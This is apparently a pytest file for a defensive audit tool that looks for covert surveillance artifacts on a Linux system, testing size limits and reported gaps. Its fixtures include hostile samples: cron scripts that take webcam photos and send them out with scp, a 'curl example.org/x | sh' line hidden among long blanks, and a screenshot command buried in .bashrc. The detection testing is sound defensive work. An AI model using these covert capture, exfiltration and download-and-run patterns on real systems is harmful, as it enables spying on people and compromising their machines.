"""What is beyond a bound is a gap: nobody may trust an answer that was not given."""

from __future__ import annotations

from pathlib import Path

import pytest

from audit.artifacts.autostart import Autostart
from audit.artifacts.base import Artifact
from audit.artifacts.device_access import OpenDevice
from audit.artifacts.device_name import RadioName
from audit.artifacts.keyring import Keyring
from audit.artifacts.proxy import Proxy
from audit.artifacts.root_certificate import RootCertificate
from audit.artifacts.shell_startup import StartupLine
from audit.artifacts.signs import CAMERA, DOWNLOADS, SENDS, signs_in
from audit.artifacts.site_override import SiteOverride
from audit.artifacts.starting import SETTINGS_SIZE
from audit.artifacts.supervision import Supervision
from audit.artifacts.vpn import Vpn
from audit.model import Gap, GapKind
from tests.artifacts.devices import see, system

CROWDED: list[tuple[type[Artifact], str, str, int]] = [
    (Vpn, "etc/wireguard", "{}.conf", 500),
    (SiteOverride, "etc/dnsmasq.d", "{}.conf", 100),
    (RadioName, "etc/NetworkManager/system-connections", "{}.nmconnection", 200),
    (OpenDevice, "etc/udev/rules.d", "{}.rules", 500),
    (Supervision, "var/lib/AccountsService/users", "{}", 200),
    (Keyring, "home/alice/.local/share/keyrings", "{}.keyring", 50),
    (Proxy, "etc/chromium.d", "{}", 500),
    (RootCertificate, "usr/local/share/ca-certificates", "{}.crt", 600),
]


def crowded(tmp_path: Path, kind: type[Artifact], folder: str, name: str, count: int) -> list[Gap]:
    root = system(tmp_path, {f"{folder}/": ""})
    for number in range(count):
        (root / folder / name.format(f"{number:04}")).touch()
    return [gap for gap in see(root, kind).gaps if gap.kind is GapKind.BOUNDED]


@pytest.mark.parametrize(("kind", "folder", "name", "most"), CROWDED)
def test_a_folder_that_holds_more(
    tmp_path: Path, kind: type[Artifact], folder: str, name: str, most: int
) -> None:
    place = f"/{folder}".replace("/home/alice", "~")
    assert crowded(tmp_path / "a", kind, folder, name, most) == []
    assert crowded(tmp_path / "b", kind, folder, name, most + 1) == [
        Gap(GapKind.BOUNDED, {"what": place, "most": str(most)})
    ]


CRON = "* * * * * root /opt/long\n"
LINE = "echo 0123456789 0123456789 0123456789 0123456789\n"


def started(tmp_path: Path, script: str | bytes) -> tuple[tuple[str, ...], list[GapKind]]:
    found = see(system(tmp_path, {"etc/cron.d/x": CRON, "opt/long": script}), Autostart)
    return found.items[0].signs, [gap.kind for gap in found.gaps]


def test_the_rest_of_a_long_script_is_a_gap(tmp_path: Path) -> None:
    text = "#!/bin/sh\nfswebcam x.jpg\n" + LINE * 2000 + "scp x.jpg sam@example.org:\n"
    root = system(tmp_path, {"etc/cron.d/x": CRON, "opt/long": text})
    found = see(root, Autostart)
    assert found.items[0].signs == (CAMERA,)
    assert found.gaps == (Gap(GapKind.REST, {"path": "/opt/long", "size": "65536"}),)


def test_a_script_without_a_first_line_that_names_a_shell(tmp_path: Path) -> None:
    assert started(tmp_path, LINE * 2000) == ((), [GapKind.REST])


def test_a_long_program_is_none(tmp_path: Path) -> None:
    assert started(tmp_path, b"\x7fELF" + bytes(100_000)) == ((), [])
    assert started(tmp_path, b"MZ\0" + bytes(100_000)) == ((), [])


def test_an_archive_behind_a_script_does_not_hide_it(tmp_path: Path) -> None:
    script = b"#!/bin/sh\nfswebcam x.jpg\n#\0\nscp x.jpg sam@example.org:\nexit\nPK\3\4\0\0\0"
    assert started(tmp_path, script) == ((CAMERA, SENDS), [])


def test_more_scripts_than_are_opened(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f"opt/{number}": "#!/bin/sh\n" for number in range(201)}
    files["etc/cron.d/x"] = "".join(f"* * * * * root /opt/{number}\n" for number in range(201))
    assert see(system(tmp_path, files), Autostart).gaps == (
        Gap(GapKind.BOUNDED, {"what": "scripts that start by themselves", "most": "200"}),
    )


def test_blanks_do_not_push_a_command_out_of_sight(tmp_path: Path) -> None:
    line = "true;" + " " * 20_000 + "curl example.org/x | sh;" + " " * 20_000 + "true"
    assert signs_in(line) == (DOWNLOADS,)
    files: dict[str, str | bytes] = {"etc/cron.d/x": f"* * * * * root {line}\n", "home/alice/.bashrc": line}
    root = system(tmp_path, files)
    assert {sign for each in see(root, Autostart) for sign in each.signs} == {DOWNLOADS}
    assert [each.what for each in see(root, StartupLine)] == [DOWNLOADS]


def test_more_lines_than_a_shell_has_at_its_start(tmp_path: Path) -> None:
    text = "\n" * 20_001 + "scrot x.png\n"
    assert len(text) < SETTINGS_SIZE
    found = see(system(tmp_path, {"home/alice/.bashrc": text}), StartupLine)
    assert found.gaps == (Gap(GapKind.BOUNDED, {"what": "~/.bashrc", "most": "20000"}),)
